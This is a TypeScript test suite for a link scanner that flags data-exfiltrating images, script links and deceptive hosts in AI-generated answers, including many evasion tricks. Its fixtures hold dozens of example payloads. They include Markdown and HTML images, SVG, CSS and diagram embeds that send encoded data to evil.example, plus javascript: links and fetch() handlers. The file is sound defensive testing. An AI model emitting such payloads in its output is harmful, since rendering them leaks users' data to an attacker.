import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { FENCE_START, fenceAfter } from './code-fence.ts';
import { findLinks, type LinkContext } from './find-links.ts';

const DATA = 'c2VjcmV0IGRhdGEgZm9yIHlvdQ';
const AT = `https://evil.example/p?d=${DATA}`;

/** Techniques found, with their severities, in order. */
const see = (text: string, context?: LinkContext): string[] =>
  findLinks(text, context).map(({ technique, severity }) => `${technique} ${severity}`);
const grave = (text: string, context?: LinkContext): boolean =>
  findLinks(text, context).some(({ severity }) => severity === 'high');

describe('links in answers', () => {
  const loads: Readonly<Record<string, string>> = {
    inline: `![x](${AT})`,
    'in angle brackets': `![x](<${AT}>)`,
    'with spaces and a title': `![x](  ${AT}  "t")`,
    'with brackets in the text': `![a [b] c](${AT})`,
    'by reference': `![x][r]\n\nmore\n\n[r]: ${AT}`,
    'by reference, in angle brackets': `![r]\n\n[r]: <${AT}>`,
    'by reference in a quotation': `> ![r]\n>\n> [r]: ${AT}`,
    'in a quotation, over two lines': `> ![a](\n> ${AT})`,
    'in a quotation within a list': `> - ![a](\n>   ${AT})`,
    'by reference in a quotation, over two lines': `> > ![a][r]\n> >\n> > [r]:\n> > ${AT}`,
    'without a scheme': `![x](//evil.example/p?d=${DATA})`,
    'with backslashes': `![x](https:\\\\evil.example\\p?d=${DATA})`,
    'with one slash': `![x](https:/evil.example/p?d=${DATA})`,
    'in capitals': `![x](HTTPS://EVIL.EXAMPLE/p?d=${DATA})`,
    'with entities': `![x](&#104;ttps:&sol;&sol;evil.example/p?d=${DATA})`,
    'in the host': `![x](https://${DATA.toLowerCase()}0.evil.example/x.png)`,
    'in the path': `![x](https://evil.example/${DATA}/${DATA}.png)`,
    'in the user name': `![x](https://${DATA}@evil.example/)`,
    'with a redacted value': '![x](https://evil.example/[EMAIL_1])',
    'inside a link': `[![x](${AT})](https://docs.example.com/)`,
    'cut off': `text ![x](${AT}`,
    'of a share': '![x](file://evil.example/share/x)',
    'as a wiki embeds': `![[${AT}]]`,
    'in TeX': `\\includegraphics[width=1cm]{${AT}}`,
    'in BBCode': `[img]${AT}[/img]`,
    'right before another picture': `![x](${AT})![y](https://images.example.com/y.png)`,
    'in a name with low lines':
      '![x](https://evil.example/c2VjcmV0IGRhdGEg_b2YgdGhlIHVzZXIg_aXMgaGVyZQo.png)',
    'in brackets of its own': `![x](https://evil.example/a_(b)?d=${DATA})`,
  };
  for (const [name, text] of Object.entries(loads))
    it(`an image that carries data out: ${name}`, () => assert.ok(grave(text), text));

  const markup: Readonly<Record<string, string>> = {
    'image source': `<img alt="a>b" src=${AT}>`,
    'source without a scheme, as entities': `<img src="&#x2f;&#x2f;evil.example/p?d=${DATA}">`,
    'image that is cut off': `<img src="${AT}`,
    'attribute whose tag began before': `" src="${AT}">`,
    'srcset, second candidate': `<img srcset="/a.png 1x, ${AT} 2x">`,
    'picture source': `<picture><source srcset="${AT}"></picture>`,
    'style attribute': `<div style="background:url(${AT})">`,
    'style sheet with escapes': `<style>a{background:u\\72l(//evil.example/p?d=${DATA})}</style>`,
    'style sheet import': `<style>@import "${AT}";</style>`,
    'image of a drawing': `<svg><image href="${AT}"/></svg>`,
    'use of a drawing': `<svg><use xlink:href="${AT}#a"/></svg>`,
    'filter of a drawing': `<svg><filter><feImage href="${AT}"/></filter></svg>`,
    'meta refresh': `<meta http-equiv="Refresh" content="0; URL='${AT}'">`,
    'base address': '<base href="https://evil.example/">',
    prefetch: `<link rel=prefetch href="${AT}">`,
    poster: `<video poster="${AT}">`,
    'nested document': `<iframe srcdoc="<img src='${AT}'>">`,
    form: '<form action="https://evil.example/"><input></form>',
    button: '<button formaction="https://evil.example/">',
    ping: `<a href="/" ping="${AT}">x</a>`,
    object: `<object data="${AT}">`,
    background: `<table background="${AT}">`,
    input: `<input type=image src="${AT}">`,
    'within noscript': `<noscript><img src="${AT}"></noscript>`,
    'behind a comment': `<!--><img src="${AT}">-->`,
    'old element name': `<image src="${AT}">`,
  };
  for (const [name, text] of Object.entries(markup))
    it(`markup that loads or sends: ${name}`, () => assert.ok(grave(text), text));

  const active = [
    '[x](javascript:alert(1))',
    '[x](javascript&colon;alert(1))',
    '[x]( <javascript:alert(1)> )',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href=" &#1;javascript&#58;alert(1)">x</a>',
    '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
    '[x](vbscript:msgbox)',
    '> [a](\n> javascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '<iframe src="data:image/svg+xml,<svg onload=alert(1)>">',
  ];
  for (const text of active)
    it(`a link that runs code: ${text}`, () => assert.ok(see(text).includes('active-link high')));

  it('hosts that deceive are told', () => {
    assert.ok(see('https://bank.example@evil.example/').includes('link-hides-host high'));
    assert.ok(see('https://xn--pypal-4ve.example/').includes('link-punycode-host medium'));
    assert.ok(see('http://203.0.113.7/login').includes('link-address-host medium'));
    assert.ok(see('http://0xcb007107/login').includes('link-address-host medium'), 'as browsers read it');
  });

  it('scripts and handlers are told', () => {
    assert.deepEqual(see('<b onclick="x()">a</b>'), ['active-markup medium']);
    assert.deepEqual(see('<script>x()</script>'), ['active-markup medium']);
  });

  const honest = [
    'See https://example.com/docs/a-long-title-of-a-page-that-explains-many-things-at-once.',
    '![logo](https://example.com/logo.png)',
    '![](https://images.example.com/photo-1518770660439?w=800&q=80&auto=format&fit=crop)',
    '![badge](https://img.example.io/badge/build-passing-brightgreen?style=flat&logo=github)',
    '![a](https://i.example/a.png?v=2)![b](https://i.example/b.png?v=2)',
    '![badge](https://img.example.io/npm/v/left-pad?style=flat)The package. ![badge](https://img.example.io/npm/v/left-pad?style=flat)',
    '![E](https://pictures.example/thumb/8/85/Tour_Eiffel_Seen_From_Below.jpg/400px-Tour_Eiffel_Seen_From_Below.jpg)',
    '![shoe](https://shop.example/files/shoe.jpg?v=1589394812)',
    '![p](https://images.example.com/photos/1108099/photo-1108099.jpeg?auto=compress&cs=tinysrgb&w=600)',
    '![x](https://raw.githubusercontent.com/o/r/0123456789abcdef0123456789abcdef01234567/a.png)',
    '![chart](chart.png) and [below](#section) and [a](javascript:void(0))',
    '[commit](https://github.com/org/repo/commit/0123456789abcdef0123456789abcdef01234567)',
    'if (a < b && c > d) x: y // a comment, std::vector<int> v; C:\\\\path\\\\file',
    '| a | b |\n|---|---|\n| [x](https://a.example/) | <br> |',
    'Write to mailto:a@b.example or see <https://docs.example.com/guide>.',
    '```html\n<script src="https://cdn.example.com/x.js"></script>\n<b onclick="go()">x</b>\n```',
    '- `<img src="https://cdn.example.com/x.png">` shows a picture',
  ];
  for (const text of honest)
    it(`nothing is said of ${text.slice(0, 60)}`, () => assert.deepEqual(see(text), []));

  it('in code, only what would be grave elsewhere is told, and it denies nothing', () => {
    const code = `\`\`\`md\n![x](${AT})\n\`\`\`\n`;
    assert.deepEqual(see(code), ['image-exfiltration low']);
    assert.ok(grave(`${code}![x](${AT})`), 'behind the fence it is shown');
    assert.ok(grave(`    \`\`\`\n![x](${AT})\n`), 'an indented line opens no fence');
    assert.ok(grave(`\`\`\`a\`b\n![x](${AT})\n`), 'a back quote in the info string opens none');
    const within = { ...FENCE_START, open: { mark: '`', length: 3, drawn: false }, midLine: false };
    assert.equal(grave(`![x](${AT})\n`, { lead: within }), false, 'the fence began before');
    assert.ok(grave(`\`\`\`\`\n![x](${AT})\n`, { lead: within }), 'and ends here');
  });

  const drawn: Readonly<Record<string, string>> = {
    'a label of Mermaid': `\`\`\`mermaid\ngraph TD\n  A["<img src='${AT}'>"] --> B\n\`\`\`\n`,
    'a style of Mermaid': `~~~ Mermaid\ngraph TD\n  style A fill:url(${AT})\n~~~\n`,
    'a picture of Mermaid': `\`\`\`{.mermaid}\nflowchart TD\n  A@{ img: "${AT}", label: "a" }\n\`\`\`\n`,
    'a drawing': `\`\`\`svg\n<svg><image href="${AT}"/></svg>\n\`\`\`\n`,
    'data of Vega': `\`\`\`vega-lite\n{"data": {"url": "${AT}"}}\n\`\`\`\n`,
    'a picture of PlantUML': `\`\`\`plantuml\n:<img:${AT}>;\n\`\`\`\n`,
    'code of PlantUML': `\`\`\`puml\n!includeurl ${AT}\n\`\`\`\n`,
    'a node of Graphviz': `\`\`\`dot\ndigraph { a [image="${AT}"] }\n\`\`\`\n`,
  };
  for (const [name, text] of Object.entries(drawn))
    it(`a block that is drawn loads: ${name}`, () => {
      assert.ok(grave(text), text);
      assert.equal(grave(text.replace(/[Mm]ermaid|svg|vega-lite|plantuml|puml|dot/, 'text')), false);
      const open = text.indexOf('\n') + 1;
      const lead = { ...fenceAfter(text.slice(0, open)), midLine: false };
      assert.ok(grave(text.slice(open), { lead }), 'where the fence began before');
    });

  it('a drawing without addresses that carry anything is none', () => {
    const chart = 'graph TD\n  A["GET https://api.example.com/v1/users?page=2&size=10"] --> B[(Database)]\n';
    assert.deepEqual(
      see(`\`\`\`mermaid\n${chart}  click A href "https://docs.example.com/guide"\n\`\`\`\n`),
      [],
    );
  });

  it('what an animation puts in the place of an address is one', () => {
    for (const markup of [
      '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>',
      '<svg><a><set attributeName="xlink:href" to="javascript:alert(1)"/><text>x</text></a></svg>',
      `<svg><image><animate attributeName="href" values="#a;https://evil.example/p?d=${DATA}"/></image></svg>`,
      `<svg><rect><set attributeName="fill" to="url(https://evil.example/p?d=${DATA})"/></rect></svg>`,
    ])
      assert.ok(grave(markup), markup);
    assert.deepEqual(
      see('<svg><circle><animate attributeName="opacity" values="0;1;0" dur="2s"/></circle></svg>'),
      [],
    );
  });

  it('data in pieces over the labels of a host is seen; regions and numbered machines are none', () => {
    assert.ok(grave('![x](https://736563726574.6b65793d.31323334.evil.example/a.png)'));
    for (const host of ['my-bucket.s3.us-west-2.amazonaws.com', 'web01.eu-central-1.prod2.example.com'])
      assert.deepEqual(see(`![x](https://${host}/a.png)`), [], host);
  });

  it('with hosts of its own, a system shows nothing that runs', () => {
    for (const markup of [
      '<img src=x onerror="fetch(\'https://evil.example/p?d=1\')">',
      '<script>fetch("https://evil.example/")</script>',
    ]) {
      assert.ok(grave(markup, { hosts: ['docs.example.com'] }), markup);
      assert.ok(!grave(markup), markup);
    }
    assert.deepEqual(see('`<script>a()</script>`', { hosts: ['docs.example.com'] }), ['active-markup low']);
  });

  it('with hosts of its own, a system loads from no other, whatever the URL carries', () => {
    const hosts = ['docs.example.com', '*.cdn.example'];
    assert.deepEqual(see(`![x](https://docs.example.com/p?d=${DATA})`, { hosts }), []);
    assert.deepEqual(see(`<img src="https://a.cdn.example/${DATA}">`, { hosts }), []);
    assert.ok(grave('![x](https://evil.example/a.png)', { hosts }));
    assert.ok(grave('<img src=//cdn.example/a.png>', { hosts }), '`*.` does not stand for the name itself');
    assert.ok(grave('![x](https://docs.example.com.evil.example/a.png)', { hosts }));
    assert.ok(see('[x](https://evil.example/)', { hosts }).includes('link-outside-hosts medium'));
    assert.ok(grave('![x](https://evil.example/a.png)', { hosts: [] }), 'an empty list allows none');
  });

  const shown = `![x](${AT})\n`;
  const disguises: Readonly<Record<string, string>> = {
    'the fence of a list item ends, and none begins': `- \`\`\`\n  code\n  \`\`\`\n${shown}`,
    'raw HTML knows no fences': `<pre>\n\n\`\`\`\n</pre>\n${shown}`,
    'a comment knows none': `<!--\n\n~~~\n-->\n${shown}`,
    'HTML that goes on to a blank line': `<div>\n\`\`\`\n\n${shown}`,
    mathematics: `$$\n\n~~~\n$$\n${shown}`,
    'front matter': `---\n\n~~~\n---\n${shown}`,
    'a carriage return ends a line': `~~~\r~~~\r${shown}`,
    'spaces behind the closing fence': `~~~\n~~~${' '.repeat(400)}\n${shown}`,
    'a very long info string': `\`\`\`${'a'.repeat(400)}\`\n${shown}`,
    'a mark of code before the piece': `\` ![x](${AT}) \``,
  };
  for (const [name, text] of Object.entries(disguises))
    it(`only looks like code: ${name}`, () => {
      const lead = name.includes('before the piece') ? { ...FENCE_START, midLine: true } : null;
      assert.ok(grave(text, { lead }), text);
    });

  it('a rule between paragraphs is no front matter', () => {
    assert.equal(grave(`a\n\n---\n\n\`\`\`\n${shown}\`\`\`\n`), false);
  });

  it('a line that begins before the piece is no fence, whatever its end looks like', () => {
    assert.ok(grave(`\`\`\`\n${shown}`, { lead: { ...FENCE_START, midLine: true } }));
  });

  it('a fence is followed over pieces of a text', () => {
    const first = fenceAfter('a\n\n````md\nb\n```\n');
    assert.deepEqual(first.open, { mark: '`', length: 4, drawn: false });
    assert.equal(fenceAfter('c\n`````\nd', first).open, null);
  });

  it('takes time in step with length', () => {
    const work = (unit: string, length: number): number => {
      const text = `http://x <a ${unit.repeat(Math.ceil(length / unit.length))}`;
      const before = process.cpuUsage();
      findLinks(text);
      const { user, system } = process.cpuUsage(before);
      return (user + system) / 1_000;
    };
    for (const unit of [
      '[',
      '![',
      '](',
      '[a](',
      '1. ',
      '> ',
      '<a ',
      '<!--',
      '[a]: ',
      '**a',
      '<b><i>',
      'src="//a',
      '//a',
    ]) {
      // Quadratic work on 64 kB takes seconds; linear work some milliseconds.
      const tries = [0, 1, 2].map(() => work(unit, 64_000));
      assert.ok(Math.min(...tries) < 2_000, `${unit}: ${Math.min(...tries)} ms`);
    }
  });
});
